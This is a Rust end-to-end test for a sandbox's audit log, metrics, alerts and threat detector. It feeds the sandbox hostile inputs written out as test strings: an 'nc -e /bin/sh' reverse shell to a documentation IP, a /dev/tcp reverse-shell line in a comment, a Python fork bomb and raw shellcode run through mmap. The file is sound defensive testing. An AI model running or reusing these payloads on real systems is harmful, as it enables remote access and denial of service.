//! The monitors on real sandboxes (native backend): the audit log verifies, metrics count the
//! runs, the threat detector finds the attacks and nothing in the ordinary runs, alerts reach a
//! callback. Needs root: fails loudly without it.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use std::collections::BTreeSet;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use common::*;
use vana_sandbox::{lang, Engine, ExecutionRequest, NativeExecutor, PolicyConfig, Status};
use vana_sandbox_monitor::alert::{Alert, Alerter, CallbackSink, Thresholds};
use vana_sandbox_monitor::audit::{verify, AuditLine, AuditLog, AuditRecord, VerifyOptions};
use vana_sandbox_monitor::metrics::{names, Metrics};
use vana_sandbox_monitor::threat::{Finding, ThreatDetector};

#[test]
fn monitors_on_real_sandboxes() {
    require_root();
    let _g = serial();
    let dir = std::env::temp_dir().join(format!("vana-monitoring-e2e-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    let metrics = Metrics::with_prometheus().unwrap();
    let audit = AuditLog::builder(&dir)
        .metrics(metrics.clone())
        .start()
        .unwrap();
    let alerts: Arc<Mutex<Vec<Alert>>> = Arc::default();
    let a = alerts.clone();
    let alerter = Alerter::builder()
        .sink(Arc::new(CallbackSink::new(move |x: &Alert| {
            a.lock().unwrap().push(x.clone())
        })))
        .thresholds(Thresholds {
            error_rate: None,
            ..Thresholds::default()
        })
        .metrics(metrics.clone())
        .start()
        .unwrap();
    let findings: Arc<Mutex<Vec<Finding>>> = Arc::default();
    let f = findings.clone();
    let detector = ThreatDetector::builder()
        .sink(Arc::new(move |x: &Finding| {
            f.lock().unwrap().push(x.clone())
        }))
        .sink(alerter.clone())
        .sink(audit.clone())
        .metrics(metrics.clone())
        .start()
        .unwrap();
    let engine = Engine::builder()
        .executor(Arc::new(NativeExecutor::new().expect("native backend")))
        .policy(Arc::new(PolicyConfig::default()))
        .languages(lang::installed())
        .monitor(audit.clone())
        .monitor(metrics.monitor())
        .monitor(detector.clone())
        .monitor(alerter.clone())
        .max_concurrency(2)
        .build()
        .unwrap();
    let rt = rt();
    let run = |id: &str, language: &str, code: &str, edit: &dyn Fn(&mut ExecutionRequest)| {
        let mut r = ExecutionRequest::new(language, code);
        r.id = Some(id.into());
        edit(&mut r);
        rt.block_on(engine.execute_as("acme", r)).unwrap()
    };
    let none = |_: &mut ExecutionRequest| {};

    let r = run("ordinary-python", "python", "import json, os\nprint(json.dumps({'pid': os.getpid() > 0}))\nprint(open('/proc/self/status').read().count('\\n') > 5)\n", &none);
    assert_eq!(r.status, Status::Success, "{r:#?}");
    let r = run("ordinary-bash", "bash", "set -e\nfor i in 1 2 3; do echo $i; done | sort -r | head -n 1\nls / | wc -l >/dev/null\necho $(date +%Y) >/dev/null\n", &none);
    assert_eq!(r.status, Status::Success, "{r:#?}");
    let r = run("guarded-subprocess", "python", "import subprocess\nsubprocess.run(['/bin/true'])\ntry:\n    subprocess.run(['nc', '-e', '/bin/sh', '203.0.113.7', '4444'])\nexcept Exception as e:\n    print(e)\n", &none);
    assert!(!r.security_events.is_empty(), "{r:#?}");
    let r = run(
        "fork-bomb",
        "python",
        "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n",
        &|r| {
            r.timeout = Some(2.0);
            r.limits = limits(|l| l.max_processes = Some(16));
        },
    );
    assert_eq!(r.status, Status::Timeout, "{r:#?}");
    let r = run(
        "seccomp",
        "python",
        "import ctypes, mmap\nbuf = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)\nbuf.write(b\"\\xb8\\x14\\x00\\x00\\x00\\xcd\\x80\\xc3\")\nfn = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(buf)))\nfn()\n",
        &none,
    );
    assert_eq!(r.status, Status::Killed, "{r:#?}");
    // Never executed: the sign is in a comment (no traffic leaves this host in any test).
    let r = run(
        "static-sign",
        "python",
        "# bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\nprint('hi')\n",
        &none,
    );
    assert_eq!(r.status, Status::Success, "{r:#?}");

    assert!(detector.flush(Duration::from_secs(10)));
    assert!(alerter.flush(Duration::from_secs(10)));
    let got: BTreeSet<(String, String)> = findings
        .lock()
        .unwrap()
        .iter()
        .map(|f| (f.run_id.clone().unwrap_or_default(), f.rule.clone()))
        .collect();
    for want in [
        ("guarded-subprocess", "guard_subprocess"),
        ("fork-bomb", "fork_bomb"),
        ("seccomp", "seccomp_kill"),
        ("static-sign", "reverse_shell"),
    ] {
        assert!(
            got.contains(&(want.0.to_string(), want.1.to_string())),
            "{want:?} missing from {got:?}"
        );
    }
    for quiet in ["ordinary-python", "ordinary-bash"] {
        assert!(
            got.iter().all(|(run, _)| run != quiet),
            "{quiet} raised {got:?}"
        );
    }
    let alerted: BTreeSet<String> = alerts
        .lock()
        .unwrap()
        .iter()
        .map(|a| a.rule.clone())
        .collect();
    assert!(
        alerted.contains("seccomp_kill") && alerted.contains("reverse_shell"),
        "{alerted:?}"
    );

    let s = metrics.snapshot();
    assert_eq!(s.counter(names::RUNS, &[("backend", "native")]), 6);
    assert_eq!(
        s.counter(names::RUNS, &[("status", "killed"), ("language", "python")]),
        1
    );
    assert!(s.counter(names::LIMIT_HITS, &[("limit", "processes")]) >= 1);
    assert_eq!(
        s.counter(names::SECURITY_EVENTS, &[("kind", "seccomp_kill")]),
        1
    );
    assert_eq!(
        s.histogram(names::STARTUP, &[("backend", "native")])
            .unwrap()
            .count,
        6
    );
    let text = metrics.render_prometheus().unwrap();
    assert!(
        text.contains(
            "vana_sandbox_threat_findings_total{rule=\"seccomp_kill\",severity=\"high\",tenant=\"acme\"} 1"
        ),
        "{text}"
    );

    assert!(audit.shutdown(Duration::from_secs(10)));
    let files = audit.files().unwrap();
    let report = verify(&files, &VerifyOptions::default()).unwrap();
    assert!(report.is_ok(), "{:?}", report.problem);
    let records: Vec<AuditRecord> = files
        .iter()
        .flat_map(|f| {
            std::fs::read_to_string(f)
                .unwrap()
                .lines()
                .map(str::to_string)
                .collect::<Vec<_>>()
        })
        .map(|l| AuditLine::parse(&l).unwrap().record)
        .collect();
    let count = |t: &str| records.iter().filter(|r| r.type_name() == t).count();
    assert_eq!((count("run_started"), count("run_finished")), (6, 6));
    assert!(count("security") >= 3, "{records:#?}");
    assert!(count("finding") >= 4);
    let _ = std::fs::remove_dir_all(&dir);
}
